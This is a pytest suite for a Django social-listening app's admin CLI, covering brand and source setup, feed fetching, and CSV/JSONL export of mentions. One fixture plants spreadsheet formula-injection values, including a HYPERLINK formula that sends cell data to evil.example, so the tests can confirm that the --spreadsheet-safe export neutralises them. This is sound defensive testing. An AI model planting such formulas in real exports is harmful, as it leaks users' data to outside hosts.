"""The admin CLI as users, tests and benchmarks call it."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command

from brands.models import Brand
from engagement.models import CareSettings
from listening.models import Author, Mention, Source
from tests.feeds import numbered_items, rss_feed, rss_item

pytestmark = pytest.mark.django_db

REPO = Path(__file__).resolve().parents[2]


def run(*args: str) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def test_add_brand_creates_a_brand_and_links_a_competitor():
    run("add_brand", "Acme", "--query", 'acme OR "acme corp"')
    output = run("add_brand", "Globex", "--query", "globex", "--competitor-of", "acme")

    assert "Created brand Globex" in output and "competitor of acme" in output
    assert list(Brand.objects.get(name="Acme").competitors.values_list("name", flat=True)) == [
        "Globex"
    ]


def test_add_brand_watches_a_competitor_with_care_off_and_serves_a_brand_with_care_on():
    own = run("add_brand", "Acme", "--query", "acme")
    competitor = run("add_brand", "Globex", "--query", "globex", "--competitor-of", "Acme")

    care = dict(CareSettings.objects.values_list("brand__name", "care_enabled"))
    assert care == {"Acme": True, "Globex": False}
    assert "care on" in own
    assert (
        "care off: its mentions are counted, no cases are opened; turn it on in Care settings"
        in competitor
    )


def test_add_brand_with_an_unknown_competitor_owner_leaves_no_care_settings_behind():
    with pytest.raises(CommandError):
        run("add_brand", "Globex", "--query", "globex", "--competitor-of", "Nobody")
    assert not Brand.objects.exists() and not CareSettings.objects.exists()


@pytest.mark.parametrize(
    ("query", "words"),
    [
        ("(acme OR globex", "parenthes"),
        ('"acme corp', "quote"),
        ("acme AND", "AND"),
        ("   ", "empty"),
    ],
)
def test_add_brand_rejects_a_bad_query_with_a_message_that_says_where(query, words):
    with pytest.raises(CommandError) as excinfo:
        run("add_brand", "Acme", "--query", query)
    assert words.lower() in str(excinfo.value).lower()
    assert not Brand.objects.exists()


def test_add_brand_rejects_an_unknown_competitor_owner():
    with pytest.raises(CommandError, match="No brand named"):
        run("add_brand", "Globex", "--query", "globex", "--competitor-of", "Nobody")


def test_add_source_validates_its_input(feed_server):
    run("add_brand", "Acme", "--query", "acme")
    url = feed_server.add("/feed.xml", rss_feed(numbered_items(2)))
    output = run(
        "add_source",
        "--brand",
        "Acme",
        "--kind",
        "rss",
        "--url",
        url,
        "--interval",
        "600",
    )
    assert "Added rss source" in output
    assert Source.objects.get().poll_interval == 600

    with pytest.raises(CommandError, match="No brand named"):
        run("add_source", "--brand", "Nope", "--kind", "rss", "--url", "https://x.example/")
    with pytest.raises(CommandError, match="url"):
        run("add_source", "--brand", "Acme", "--kind", "rss", "--url", "not a url")
    with pytest.raises(CommandError, match="interval"):
        run(
            "add_source",
            "--brand",
            "Acme",
            "--kind",
            "rss",
            "--url",
            "https://y.example/",
            "--interval",
            "5",
        )


def test_fetch_sources_prints_per_source_counts_and_failures(feed_server):
    run("add_brand", "Acme", "--query", "acme")
    good = feed_server.add("/good.xml", rss_feed(numbered_items(5)))
    bad = feed_server.add("/bad.xml", rss_feed(numbered_items(1)))
    run("add_source", "--brand", "Acme", "--kind", "rss", "--url", good)
    run("add_source", "--brand", "Acme", "--kind", "rss", "--url", bad)
    # A feed that was fine when added and later turned into a page.
    feed_server.add("/bad.xml", b"<html><body>hi</body></html>", content_type="text/html")

    output = run("fetch_sources")

    assert "HTTP 200, 5 seen, 5 new, 0 duplicate, 0 unmatched" in output
    assert "FAILED [not_a_feed]" in output
    assert "Done: 2 source(s), 1 failed, 5 seen, 5 new" in output
    again = run("fetch_sources", "--source", str(Source.objects.get(url=good).pk))
    assert "5 seen, 0 new, 5 duplicate" in again


def test_fetch_sources_rejects_an_unknown_source_id():
    with pytest.raises(CommandError, match="No source with id 4242"):
        run("fetch_sources", "--source", "4242")


@pytest.fixture
def stored(feed_server):
    run("add_brand", "Acme", "--query", "acme")
    run("add_brand", "Globex", "--query", "globex", "--competitor-of", "Acme")
    items = [
        rss_item(
            "1",
            "Acme is great",
            "I love it, thanks Acme!",
            link="https://x.example/1",
            author="ann@example.com (Ann)",
        ),
        rss_item("2", "Globex is down", "Globex outage again, terrible."),
        rss_item("3", "Acme vs Globex", 'Acme, "quoted", and Globex; commas, too.'),
    ]
    url = feed_server.add("/f.xml", rss_feed(items))
    run("add_source", "--brand", "Acme", "--kind", "rss", "--url", url)
    run("fetch_sources")


def test_export_mentions_writes_csv_with_the_promised_columns(stored):
    output = run("export_mentions", "--brand", "Acme", "--format", "csv")

    rows = list(csv.DictReader(io.StringIO(output)))
    assert {
        "id",
        "source",
        "external_id",
        "url",
        "author",
        "published_at",
        "text",
        "compound",
        "label",
        "matched_terms",
    } <= set(rows[0])
    assert [r["external_id"] for r in rows] == ["1", "3"]
    first = rows[0]
    mention = Mention.objects.get(external_id="1")
    assert first["text"] == mention.text == "Acme is great. I love it, thanks Acme!"
    assert first["published_at"] == "2026-11-01T12:00:00Z"
    assert first["label"] == "positive" and float(first["compound"]) == mention.compound
    assert first["matched_terms"] == "acme" and first["url"] == "https://x.example/1"
    assert rows[1]["text"] == 'Acme vs Globex. Acme, "quoted", and Globex; commas, too.'


def test_export_mentions_writes_jsonl_and_filters_by_date(stored):
    output = run("export_mentions", "--brand", "Globex", "--format", "jsonl")
    records = [json.loads(line) for line in output.splitlines()]
    assert [r["external_id"] for r in records] == ["2", "3"]
    assert records[0]["label"] == "negative" and records[0]["matched_terms"] == ["globex"]

    assert (
        run("export_mentions", "--brand", "Globex", "--format", "jsonl", "--since", "2026-11-02")
        == ""
    )
    since_morning = run(
        "export_mentions",
        "--brand",
        "Globex",
        "--format",
        "jsonl",
        "--since",
        "2026-11-01T11:00:00+00:00",
    )
    assert len(since_morning.splitlines()) == 2


def test_export_mentions_rejects_a_bad_date_and_an_unknown_brand(stored):
    with pytest.raises(CommandError, match="not a date"):
        run("export_mentions", "--brand", "Acme", "--since", "yesterday-ish")
    with pytest.raises(CommandError, match="No brand named"):
        run("export_mentions", "--brand", "Nobody")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "acme")'


@pytest.fixture
def hostile(stored):
    """Mention 1 with a formula in every text column a stranger controls."""
    mention = Mention.objects.get(external_id="1")
    Mention.objects.filter(pk=mention.pk).update(
        text=FORMULA, title="+SUM(1+1)", external_id="-1+cmd"
    )
    Author.objects.filter(pk=mention.author_id).update(display_name="@SUM(A1)")
    return mention


def test_export_mentions_keeps_exact_text_by_default(hostile):
    rows = list(csv.DictReader(io.StringIO(run("export_mentions", "--brand", "Acme"))))
    first = rows[0]
    assert first["text"] == FORMULA
    assert first["title"] == "+SUM(1+1)"
    assert first["external_id"] == "-1+cmd"
    assert first["author"] == "@SUM(A1)"


def test_export_mentions_spreadsheet_safe_neutralises_formulas_and_keeps_numbers(hostile):
    output = run("export_mentions", "--brand", "Globex", "--spreadsheet-safe")
    assert "'" not in output  # nothing hostile for Globex: nothing changes
    output = run("export_mentions", "--brand", "Acme", "--spreadsheet-safe")
    rows = list(csv.DictReader(io.StringIO(output)))
    first = rows[0]
    assert first["text"] == "'" + FORMULA
    assert first["title"] == "'+SUM(1+1)"
    assert first["external_id"] == "'-1+cmd"
    assert first["author"] == "'@SUM(A1)"
    assert first["id"] == str(hostile.pk)
    assert float(first["compound"]) == hostile.compound
    assert rows[1]["text"] == 'Acme vs Globex. Acme, "quoted", and Globex; commas, too.'


def test_export_mentions_refuses_spreadsheet_safe_for_jsonl(hostile):
    with pytest.raises(CommandError, match="--format csv only"):
        run("export_mentions", "--brand", "Acme", "--format", "jsonl", "--spreadsheet-safe")


def test_a_bad_command_line_exits_non_zero_with_a_clear_message():
    env = {**os.environ, "DEBUG": "true"}
    result = subprocess.run(
        [
            sys.executable,
            "manage.py",
            "add_source",
            "--brand",
            "X",
            "--kind",
            "ftp",
            "--url",
            "ftp://x.example/",
        ],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2
    assert "invalid choice: 'ftp'" in result.stderr


# Hosts under .invalid never resolve: the check of a new source fails as for a host that is
# down, and --save-anyway saves it (tests/listening/test_source_check.py checks real servers).
@pytest.mark.parametrize(
    ("kind", "extra", "says"),
    [
        ("hn", ["--url", "https://hn.name.invalid"], "every 900 s"),
        (
            "reddit",
            ["--url", "https://reddit.name.invalid", "--option", "subreddit=phones"],
            "every 900 s",
        ),
        (
            "mastodon",
            ["--url", "https://mastodon.name.invalid", "--option", "hashtag=acme"],
            "every 900 s",
        ),
        (
            "mastodon-stream",
            ["--url", "https://mastodon.name.invalid", "--option", "hashtag=acme"],
            "run_streams",
        ),
        ("bluesky", ["--url", "https://bsky.name.invalid"], "every 900 s"),
        ("jetstream", ["--url", "wss://jetstream.name.invalid/subscribe"], "run_streams"),
        ("webhook", [], "/hooks/"),
        ("import", [], "Added import source"),
    ],
)
def test_add_source_configures_every_kind(kind, extra, says):
    run("add_brand", "Acme", "--query", "acme")

    output = run("add_source", "--brand", "Acme", "--kind", kind, *extra, "--save-anyway")

    assert says in output
    source = Source.objects.get(kind=kind)
    if kind == "webhook":
        assert source.token and len(source.secret) == 64 and source.token in output
    if kind in ("webhook", "import"):
        assert "Saved anyway" not in output  # nothing to fetch, nothing checked
    else:
        assert "Saved anyway (--save-anyway). Could not fetch it (connection_failed)" in output


@pytest.mark.parametrize("kind", ["hn", "reddit", "mastodon", "bluesky", "jetstream"])
def test_a_source_without_a_url_gets_its_kinds_default_endpoint(kind):
    brand = Brand.objects.create(name="Acme", query="acme")
    config = {"hashtag": "acme"} if kind == "mastodon" else {}
    source = Source(brand=brand, kind=kind, config=config)
    source.full_clean()
    assert source.url.startswith(("https://", "wss://"))


@pytest.mark.parametrize(
    ("kind", "extra", "words"),
    [
        ("reddit", ["--option", "subreddit=no spaces allowed"], "subreddit"),
        ("mastodon-stream", ["--url", "https://mastodon.example"], "hashtag"),
        ("jetstream", ["--url", "https://not-a-websocket.example/"], "ws"),
        ("webhook", ["--url", "https://x.example/"], "no URL"),
        ("hn", ["--option", "colour=blue"], "Unknown option"),
        ("rss", ["--option", "novalue"], "KEY=VALUE"),
    ],
)
def test_add_source_rejects_bad_options_with_a_clear_message(kind, extra, words):
    run("add_brand", "Acme", "--query", "acme")

    with pytest.raises(CommandError, match=words):
        run("add_source", "--brand", "Acme", "--kind", kind, *extra)
    assert not Source.objects.exists()
